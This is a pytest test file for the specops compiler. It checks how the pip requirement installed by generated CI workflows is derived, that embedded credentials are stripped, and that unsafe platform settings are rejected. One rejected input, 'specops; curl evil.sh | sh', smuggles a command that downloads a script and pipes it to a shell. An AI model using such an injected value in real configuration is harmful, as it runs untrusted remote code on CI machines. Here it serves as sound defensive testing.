"""What generated CI installs to run specops (`ci.specops_requirement`): derived from how the
running specops was installed, as pip records it, unless the platform sets it."""

from __future__ import annotations

import json
from collections.abc import Iterator
from importlib import metadata
from pathlib import Path

import pytest
import yaml

from compiler import install_source
from compiler._version import __version__
from compiler.api import CompileOptions, compile_specs
from compiler.cli import run
from tests.conftest import REPO

SHA = "0123456789abcdef0123456789abcdef01234567"


@pytest.fixture(autouse=True)
def _fresh_cache() -> Iterator[None]:
    install_source.running_install_source.cache_clear()
    yield
    install_source.running_install_source.cache_clear()


def _installed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, direct_url: dict[str, object] | None
) -> None:
    """A specops installed into `tmp_path` (a real dist-info, read by importlib.metadata) whose
    `compiler` package is the one running."""
    info = tmp_path / f"specops-{__version__}.dist-info"
    info.mkdir()
    metadata_text = f"Metadata-Version: 2.1\nName: specops\nVersion: {__version__}\n"
    (info / "METADATA").write_text(metadata_text)
    if direct_url is not None:
        (info / "direct_url.json").write_text(json.dumps(direct_url))
    dist = metadata.PathDistribution(info)
    monkeypatch.setattr(install_source.metadata, "distribution", lambda name: dist)
    monkeypatch.setattr(install_source, "_PACKAGE_DIR", tmp_path / "compiler")


def _requirement_in_workflow(tmp_path: Path, platform: Path | None = None) -> str:
    options = CompileOptions(
        [REPO / "specs/churn-classifier.yaml"], tmp_path / "out", ["ci"], platform=platform
    )
    result = compile_specs(options)
    assert result.ok, result.diagnostics
    (workflow,) = (f for f in result.files if f.path.endswith("-pr.yml"))
    jobs = yaml.safe_load(workflow.content)["jobs"].values()
    (requirement,) = {str(job["env"]["SPECOPS_REQUIREMENT"]) for job in jobs}  # one for all
    return requirement


def test_an_index_install_installs_its_own_version(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _installed(tmp_path, monkeypatch, None)
    found = install_source.running_install_source()
    assert found == install_source.InstallSource(f"specops=={__version__}")


def test_a_git_install_installs_the_same_commit_in_ci(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url = "https://oauth2:tok3n@github.com/acme/specops.git"  # credentials never reach CI
    _installed(tmp_path, monkeypatch, {"url": url, "vcs_info": {"vcs": "git", "commit_id": SHA}})
    expected = f"specops @ git+https://github.com/acme/specops.git@{SHA}"
    assert install_source.running_install_source() == install_source.InstallSource(expected)
    assert _requirement_in_workflow(tmp_path) == expected  # and the verifiers accept it


@pytest.mark.parametrize(
    ("direct_url", "reason"),
    [
        ({"url": "file:///src/specops", "dir_info": {"editable": True}}, "an editable install"),
        ({"url": "file:///src/specops", "dir_info": {}}, "a local file or directory"),
        ({"url": "file:///tmp/specops-0.1.0-py3-none-any.whl", "archive_info": {}}, "a local"),
        ({"url": "file:///src/specops", "vcs_info": {"vcs": "git", "commit_id": SHA}}, "a local"),
    ],
)
def test_an_install_ci_cannot_repeat_is_said_at_compile_time(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    direct_url: dict[str, object],
    reason: str,
) -> None:
    _installed(tmp_path, monkeypatch, direct_url)
    found = install_source.running_install_source()
    assert found.requirement == f"specops=={__version__}"
    assert found.note is not None and reason in found.note
    args = ["compile", "specs/churn-classifier.yaml", "--out", str(tmp_path / "o"), "-t", "ci"]
    assert run(args) == 0
    assert "note: the CI workflows install 'specops==" in capsys.readouterr().err
    assert "defaults.ci.specops_requirement" in found.note


def test_a_source_checkout_is_not_mistaken_for_an_index_install(tmp_path: Path) -> None:
    # The suite runs the checkout's code: whatever specops is installed, it is not this code.
    found = install_source.running_install_source()
    assert found.requirement == f"specops=={__version__}"
    assert found.note is not None


def test_the_platform_setting_wins_and_silences_the_note(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    wanted = f"specops @ git+https://gitlab.acme.io/ml/specops@v{__version__}"
    platform = tmp_path / "platform.yaml"
    platform.write_text(
        "apiVersion: specops/v1\nkind: Platform\nmetadata: {name: p, owners: [p@example.com]}\n"
        f"defaults: {{ci: {{specops_requirement: {json.dumps(wanted)}}}}}\n"
    )
    assert _requirement_in_workflow(tmp_path, platform) == wanted
    args = ["compile", "specs/churn-classifier.yaml", "--out", str(tmp_path / "o"), "-t", "ci"]
    assert run([*args, "--platform", str(platform)]) == 0
    assert "specops_requirement" not in capsys.readouterr().err


@pytest.mark.parametrize(
    "bad",
    [
        "specops; curl evil.sh | sh",
        "specops @ git+https://user:pw@github.com/a/specops@main",
        "specops @ git+ssh://github.com/a/specops@main",
        "specops @ git+https://github.com/a/specops",  # unpinned: a moving branch tip
        "-e git+https://github.com/a/specops@main",
    ],
)
def test_a_requirement_that_is_no_pinned_safe_install_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], bad: str
) -> None:
    platform = tmp_path / "platform.yaml"
    platform.write_text(
        "apiVersion: specops/v1\nkind: Platform\nmetadata: {name: p, owners: [p@example.com]}\n"
        f"defaults: {{ci: {{specops_requirement: {json.dumps(bad)}}}}}\n"
    )
    args = ["validate", "specs/churn-classifier.yaml", "--platform", str(platform)]
    assert run(args) == 1
    err = capsys.readouterr()
    assert "specops_requirement" in err.out + err.err
